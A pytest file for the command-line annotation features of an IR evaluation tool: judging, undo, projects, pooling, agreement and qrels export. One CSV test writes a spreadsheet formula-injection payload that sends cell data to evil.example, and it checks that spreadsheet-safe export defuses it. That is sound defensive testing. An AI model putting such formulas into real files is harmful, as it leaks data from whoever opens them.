"""Annotation from the command line, as a script drives it."""

from __future__ import annotations

import csv
import io
import json
import shutil
from math import log2
from pathlib import Path
from typing import Any

import pytest

from engine.types.annotating import Judgment
from engine.types.corpora import ImportRequest
from tests.cli.command_line import Outcome, run_inside, run_process
from tests.fakes.small_corpus import DOCUMENTS
from tests.support import make_explorer, write_jsonl

QUERY = "bees-network_method"
ITEM = ("--query", QUERY, "--doc", "bread-network")


@pytest.fixture
def judging(small_home: Path, home: Path) -> Path:
    """A home with the corpus ``small`` that may be written to."""
    shutil.copytree(small_home, home)
    return home


def run(home: Path, *args: object) -> Any:
    outcome = run_inside(home, *args, "--json")
    assert outcome.code == 0, outcome.stderr
    return outcome.json


def judge(home: Path, grade: int, who: str, doc_id: str = "bread-network") -> Any:
    asked = ("--query", QUERY, "--doc", doc_id, "--grade", grade, "--annotator", who)
    return run(home, "judge", "small", *asked)


def assert_refused(outcome: Outcome, *says: str) -> None:
    assert (outcome.code, outcome.stdout) == (2, "")
    (line,) = outcome.stderr.splitlines()
    for words in ("Error: ", *says):
        assert words in line


def test_a_judgment_is_stored_with_who_and_why_and_an_undo_brings_back_the_one_before(
    judging: Path,
) -> None:
    first = judge(judging, 3, "ann")
    names = ("corpus", "project", "query_id", "doc_id", "annotator", "relevance", "verdict")
    assert [first[n] for n in names] == [
        *("small", "", QUERY, "bread-network", "ann", 3, "grade"),
    ]
    skipped = run(judging, "judge", "small", *ITEM, "--skip", "--annotator", "ann", "--note", "?")
    assert (skipped["verdict"], skipped["relevance"], skipped["note"]) == ("skip", None, "?")
    undone = run(judging, "judge", "small", "--undo", "--annotator", "ann")["undone"]
    assert undone["event"] == skipped["event"]
    lines = run_inside(judging, "qrels", "export", "small").stdout
    assert lines == f"{QUERY} 0 bread-network 3\n"
    run(judging, "judge", "small", "--undo", "--annotator", "ann")
    assert run(judging, "judge", "small", "--undo", "--annotator", "ann") == {"undone": None}


def test_an_undo_takes_back_what_it_names_and_a_decision_only_when_asked_to(judging: Path) -> None:
    for doc_id in ("bread-network", "maps-survey"):
        judge(judging, 3, "ann", doc_id)
    decision = ("--grade", 1, "--adjudicate", "--note", "so", "--annotator", "ann")
    decided = run(judging, "judge", "small", *ITEM, *decision)
    undo = ("judge", "small", "--undo", "--annotator", "ann")
    undone = run(judging, *undo, "--query", QUERY, "--doc", "bread-network")["undone"]
    assert (undone["doc_id"], undone["origin"]) == ("bread-network", "person")
    assert run(judging, *undo, *ITEM) == {"undone": None}
    back = run(judging, *undo, *ITEM, "--adjudicate")["undone"]
    assert back["event"] == decided["event"]
    assert run(judging, *undo, *ITEM, "--adjudicate") == {"undone": None}
    lines = run_inside(judging, "qrels", "export", "small").stdout
    assert lines == f"{QUERY} 0 maps-survey 3\n"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ((*ITEM, "--grade", 4), ("grade is 4", "0, 1, 2, 3")),
        ((*ITEM, "--grade", 1, "--skip"), ("one of --grade",)),
        (ITEM, ("one of --grade",)),
        (("--query", QUERY, "--grade", 1), ("Give --query and --doc",)),
        (("--query", QUERY, "--undo"), ("Give --query and --doc",)),
        (("--undo", "--adjudicate"), ("Give --query and --doc",)),
        (("--undo", "--note", "oh"), ("no note",)),
        ((*ITEM, "--skip", "--adjudicate"), ("decision is a grade",)),
        ((*ITEM, "--grade", 1, "--annotator", " "), ("no name",)),
        ((*ITEM, "--grade", 1, "--annotator", "adjudicated"), ("name of your own",)),
        ((*ITEM, "--grade", 1, "--note", "x" * 100_000), ("100,000 characters", "10,000")),
        ((*ITEM, "--grade", 1, "--project", "none"), ("no project 'none'",)),
        ((*ITEM, "--grade", 1, "--adjudicate"), ("no reason",)),
        (("--query", "x_method", "--doc", "emoji", "--grade", 1), ("'x_method'", "SEED_ASPECT")),
        (("--query", QUERY, "--doc", "nobody", "--grade", 1), ("'nobody'",)),
        (("--query", QUERY, "--doc", "bees-network", "--grade", 1), ("is the seed",)),
        ((*ITEM, "--grade", 1, "--annotator", "a\udcff"), ("control characters or broken",)),
    ],
    ids=range(17),
)
def test_what_cannot_be_judged_is_refused_and_nothing_is_stored(
    judging: Path, arguments: tuple[object, ...], says: tuple[str, ...]
) -> None:
    assert_refused(run_inside(judging, "judge", "small", *arguments), *says)
    assert_refused(run_inside(judging, "qrels", "export", "small"), "no grades to export")


def test_from_a_project_to_qrels(judging: Path, tmp_path: Path) -> None:
    guide = tmp_path / "guide.md"
    guide.write_text("Same **method**?", "utf-8")
    queries = tmp_path / "queries.txt"
    queries.write_text(f"{QUERY}\n", "utf-8")
    people = ("--annotator", "ann", "--annotator", "bob", "--lead", "lead", "--per-item", 2)
    created = run(
        judging, "project", "create", "small", "p", *people, "--guidelines", f"method={guide}"
    )
    assert created["guidelines"] == {"method": "Same **method**?"}
    assert_refused(run_inside(judging, "project", "create", "small", "p"), "has a project 'p'")
    assert [p["name"] for p in run(judging, "project", "list")] == ["p"]

    here = ("small", "--project", "p", "--systems", "bm25,dense", "--depth", 3)
    pooled = run(judging, "pool", *here, "--queries", queries)
    assert (pooled["queries_added"], pooled["queries"], pooled["added"]) == (1, 1, 6)
    assert run(judging, "pool", *here)["added"] == 0
    dense = run(judging, "pool", *here, "--holes")[1]
    assert (dense["system"], dense["judged"], dense["unjudged"]) == ("dense", 0.0, 3)

    first, second, _ = dense["missing"][QUERY]
    judged = ("--query", QUERY, "--project", "p", "--doc")
    for who, doc_id, grade in (
        *(("ann", first, 3), ("bob", first, 1)),
        *(("ann", second, 2), ("bob", second, 2)),
    ):
        run(judging, "judge", "small", *judged, doc_id, "--grade", grade, "--annotator", who)
    assert run(judging, "pool", *here, "--holes")[1]["unjudged"] == 1
    shown = run(judging, "project", "show", "small", "p")
    assert (shown["judgments"], shown["progress"]["ann"]["done"]) == (4, 2)

    agreement_is_told_for_two_items(judging, first)
    a_lead_decides_and_judgments_go_out(judging, judged, first, second)


def agreement_is_told_for_two_items(judging: Path, split_on: str) -> None:
    """Of Ann and Bob: one item graded alike, one not."""
    agreed = run(judging, "agreement", "small", "--project", "p")
    human = {who: measures["nDCG@20"] for who, measures in agreed["human"].items()}
    assert human == {
        "ann": pytest.approx((1 + 2 / log2(3)) / (2 + 1 / log2(3))),
        "bob": pytest.approx((2 + 3 / log2(3)) / (3 + 2 / log2(3))),
    }
    assert agreed["measures"]["raw"] == {"value": 0.5, "interval": None, "items": 2}
    assert agreed["by_aspect"]["method"]["krippendorff_alpha"]["items"] == 2
    (pair,) = agreed["pairs"]
    assert pair["annotators"] == ["ann", "bob"]
    assert pair["confusion"][3] == [0, 1, 0, 0]
    said = run_inside(judging, "agreement", "small", "--project", "p").stdout.splitlines()
    matrix = said.index("rows: ann, columns: bob")
    assert [line.split() for line in said[matrix + 1 : matrix + 6]] == [
        *(["0", "1", "2", "3"], ["0", "0", "0", "0", "0"], ["1", "0", "0", "0", "0"]),
        *(["2", "0", "0", "1", "0"], ["3", "0", "1", "0", "0"]),
    ]
    assert ["ann", "0.860", "–", "1"] in [line.split() for line in said]
    (split,) = run(judging, "agreement", "small", "--project", "p", "--disagreements")
    assert (split["doc_id"], split["spread"], split["said"]) == (split_on, 2, {"ann": 3, "bob": 1})


def a_lead_decides_and_judgments_go_out(
    judging: Path, judged: tuple[str, ...], first: str, second: str
) -> None:
    """What was decided and what was agreed is exported; each one's own grades are, too."""
    decision = ("--grade", 2, "--adjudicate", "--note", "so")
    assert_refused(
        run_inside(judging, "judge", "small", *judged, first, *decision, "--annotator", "ann"),
        "leads are lead",
    )
    run(judging, "judge", "small", *judged, first, *decision, "--annotator", "lead")
    lines = run_inside(judging, "qrels", "export", "small", "--project", "p", "--format", "jsonl")
    rows = {row["doc_id"]: row for row in map(json.loads, lines.stdout.splitlines())}
    assert {d: (r["relevance"], r["basis"]) for d, r in rows.items()} == {
        first: (2, "adjudicated"),
        second: (2, "agreed"),
    }
    assert (rows[first]["annotator"], rows[first]["note"], rows[first]["by"]) == (
        *("adjudicated", "so", "lead"),
    )
    own = run_inside(
        judging, *("qrels", "export", "small", "--project", "p"), "--format", "csv",
        "--per-annotator",
    )  # fmt: skip
    table = list(csv.DictReader(io.StringIO(own.stdout)))
    assert [(r["annotator"], r["relevance"]) for r in table if r["doc_id"] == first] == [
        *(("ann", "3"), ("bob", "1"), ("lead", "2")),
    ]


def test_csv_is_for_spreadsheets_where_it_is_asked_for(judging: Path) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    run(judging, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
    export = ("qrels", "export", "small", "--per-annotator")
    notes = []
    for more in ((), ("--spreadsheet",)):
        table = run_inside(judging, *export, "--format", "csv", *more).stdout
        notes += [row["note"] for row in csv.DictReader(io.StringIO(table))]
    assert notes == [formula, f"'{formula}"]
    assert_refused(run_inside(judging, *export, "--spreadsheet"), "--spreadsheet is for CSV")


def test_qrels_go_out_and_come_in_by_name_and_a_broken_file_changes_nothing(
    judging: Path, tmp_path: Path
) -> None:
    judge(judging, 3, "ann")
    judge(judging, 0, "ann", "maps-survey")
    out = tmp_path / "out" / "small.qrels"
    written = run(judging, "qrels", "export", "small", "--out", out)
    assert (written["files"], written["judgments"]) == ([str(out)], 2)
    come_in = ("qrels", "import", "small", out)
    assert_refused(run_inside(judging, *come_in), "no name")
    assert run(judging, *come_in, "--annotator", "bob") == {
        "added": 2,
        "known": 0,
        "conflicts": [],
        "warnings": [],
    }
    assert run(judging, *come_in, "--annotator", "bob")["known"] == 2
    out.write_text(out.read_text() + "one two\n" + f"{QUERY} 0 nobody 1\n")
    assert_refused(
        run_inside(judging, *come_in, "--annotator", "eve"),
        *("small.qrels", "2 lines", "line 3", "line 4", "'nobody'"),
    )
    assert_refused(run_inside(judging, "qrels", "import", "small"), "did not come from CSFCube")
    assert_refused(
        run_inside(judging, "qrels", "import", "small", tmp_path / "none"), "does not exist"
    )
    in_the_way = tmp_path / "file"
    in_the_way.write_text("")
    assert_refused(
        run_inside(judging, "qrels", "export", "small", "--out", in_the_way / "x"),
        "cannot be written",
    )
    people = {j["annotator"] for j in map(json.loads, run_inside(
        judging, "qrels", "export", "small", "--format", "jsonl", "--per-annotator"
    ).stdout.splitlines())}  # fmt: skip
    assert people == {"ann", "bob"}


def test_a_pool_takes_runs_and_a_collection_and_names_what_is_missing(
    judging: Path, tmp_path: Path
) -> None:
    assert_refused(run_inside(judging, "pool", "small"), "no queries yet", "--queries FILE")
    strange = tmp_path / "q.txt"
    strange.write_text(f"{QUERY}\nwhat_ever\n")
    assert_refused(
        run_inside(judging, "pool", "small", "--queries", strange), "line 2 ('what_ever')"
    )
    judge(judging, 1, "ann")
    run_file = tmp_path / "mine.run"
    run_file.write_text(f"{QUERY} Q0 emoji 1 2.0 mine\n{QUERY} Q0 elsewhere 2 1.0 mine\n")
    found = run(judging, "pool", "small", "--systems", "bm25", "--depth", 2, "--run", run_file)
    assert (found["items"], found["added"]) == (3, 3)
    nowhere = ("--run", run_file, "--filter", "has.place=FR")
    assert run(judging, "pool", "small", "--systems", "bm25", *nowhere)["added"] == 0
    warned = run_inside(judging, "pool", "small", "--systems", "", "--depth", 2, "--run", run_file)
    assert "1 document of run 'mine' cannot be judged" in warned.stderr
    only_run = ("pool", "small", "--systems", "", "--run", run_file, "--depth", 2)
    (mine,) = run(judging, *only_run, "--unjudged")
    assert (mine["system"], mine["missing"]) == ("mine", {QUERY: ["emoji", "elsewhere"]})
    both = run(judging, "pool", "small", "--systems", "bm25", "--run", run_file, "--unjudged")
    assert [h["system"] for h in both] == ["bm25", "mine"]
    left = [one for one in DOCUMENTS if one["doc_id"] != "bees-network"]
    source = write_jsonl(tmp_path / "left.jsonl", left)
    explorer = make_explorer(judging)
    explorer.library.delete("small")
    explorer.library.import_documents(ImportRequest(source, "small"))
    gone = run_inside(judging, "pool", "small", "--systems", "bm25")
    assert (gone.code, gone.stderr) == (
        0,
        f"Warning: 1 query is skipped (seed or aspect not in the corpus): {QUERY}.\n",
    )
    run_file.write_text("broken\n")
    assert_refused(run_inside(judging, "pool", "small", "--run", run_file), "mine.run, line 1")


def test_what_a_pool_refuses_leaves_no_query_behind(judging: Path, tmp_path: Path) -> None:
    queries = tmp_path / "q.txt"
    queries.write_text(f"{QUERY}\n")
    here = ("pool", "small", "--queries", queries)
    assert_refused(run_inside(judging, *here, "--depth", 0), "depth of the pool is 0")
    assert_refused(run_inside(judging, *here, "--holes"), "--unjudged only looks")
    assert_refused(run_inside(judging, *here, "--systems", ""), "names no system")
    assert run(judging, "project", "show", "small")["queries"] == 0


def test_every_topic_of_a_collection_is_asked_in_its_own_words(
    judging: Path, tmp_path: Path
) -> None:
    topics = [{"query_id": f"t{n}", "seed": "bees-network", "aspect": "method"} for n in range(3)]
    topics[2]["instruction"] = "the same sensors"
    folder = tmp_path / "topics"
    folder.mkdir()
    write_jsonl(folder / "topics.jsonl", topics)
    (folder / "qrels.txt").write_text("t0 0 bread-network 1\n")
    pooled = run(judging, "pool", "small", "--collection", folder, "--systems", "bm25")
    assert (pooled["queries"], pooled["queries_added"]) == (3, 3)
    asked = make_explorer(judging).annotation
    found = asked.queries(asked.project("small"))
    assert {i: (q.seed, q.instruction) for i, q in found.items()} == {
        "t0": ("bees-network", None),
        "t1": ("bees-network", None),
        "t2": ("bees-network", "the same sensors"),
    }


def test_runs_of_one_tag_and_file_name_are_all_pooled(judging: Path, tmp_path: Path) -> None:
    judge(judging, 1, "ann")
    runs: list[object] = []
    for number, doc_id in enumerate(("emoji", "maps-survey", "bread-sensor")):
        (file := tmp_path / str(number) / "run.txt").parent.mkdir()
        file.write_text(f"{QUERY} Q0 {doc_id} 1 1.0 bm25\n")
        runs += ["--run", file]
    pooled = run(judging, "pool", "small", "--systems", "", *runs)
    assert (pooled["items"], pooled["added"]) == (3, 3)
    found = run(judging, "pool", "small", "--systems", "bm25", *runs, "--unjudged")
    names = ["bm25", "run:bm25", "run", "run-2"]
    assert [one["system"] for one in found] == names, "a run is not the system of its name"


def test_queries_that_another_collection_numbered_alike_are_not_taken_for_those_here(
    judging: Path, tmp_path: Path
) -> None:
    for name, text in (("first", "How do bees live?"), ("second", "Where is bread baked?")):
        (folder := tmp_path / name).mkdir()
        write_jsonl(folder / "topics.jsonl", [{"query_id": "1", "text": text}])
        (folder / "qrels.txt").write_text("1 0 bread-network 1\n")
    pool = ("pool", "small", "--systems", "bm25", "--collection")
    assert run(judging, *pool, tmp_path / "first")["queries_added"] == 1
    assert run(judging, *pool, tmp_path / "first")["queries_added"] == 0
    assert_refused(
        run_inside(judging, *pool, tmp_path / "second"), "by the same id (first: '1')", "project"
    )


def test_a_project_s_people_are_cleared_and_a_scale_is_what_was_written(
    judging: Path, tmp_path: Path
) -> None:
    people = ("--annotator", "ann", "--lead", "me")
    run(judging, "project", "create", "small", "p", *people)
    change = ("project", "change", "small", "p", "--author", "me")
    assert run(judging, *change, "--annotator", "")["annotators"] == []
    assert run(judging, *change, "--per-item", 2)["leads"] == ["me"]
    assert run(judging, *change, "--lead", "")["leads"] == []
    assert_refused(run_inside(judging, *change, "--lead", "", "--lead", "ann"), "no name")
    scale = tmp_path / "scale.json"
    for text in (
        '[[0.9, "No"], [2, "Yes"]]',
        '["01", "12"]',
        '[[true, "a"], [0, "b"]]',
        "[[0], [1]]",
    ):
        scale.write_text(text)
        assert_refused(run_inside(judging, *change, "--scale", scale), "scale.json", "as a scale")
    scale.write_text('[[0, "No"], [1, "Yes", "all of it"]]')
    assert run(judging, *change, "--scale", scale)["scale"]["grades"][1]["meaning"] == "all of it"
    assert_refused(run_inside(judging, "project", "list", "nosuch"), "nosuch")
    assert run(judging, "project", "list", "small")[0]["name"] == "p"


def test_the_command_judges_beside_an_open_app_and_each_sees_the_other(judging: Path) -> None:
    annotation = make_explorer(judging).annotation
    project = annotation.project("small")
    annotation.judge(project, Judgment(QUERY, "bread-network", "ann", 1))
    there = run_process(judging, "judge", "small", *ITEM, "--grade", 3, "--annotator", "bob")
    assert there.code == 0, there.stderr
    assert {j.annotator: j.relevance for j in annotation.judgments(project)} == {"ann": 1, "bob": 3}
    (split,) = run(judging, "agreement", "small", "--disagreements")
    assert split["said"] == {"ann": 1, "bob": 3}
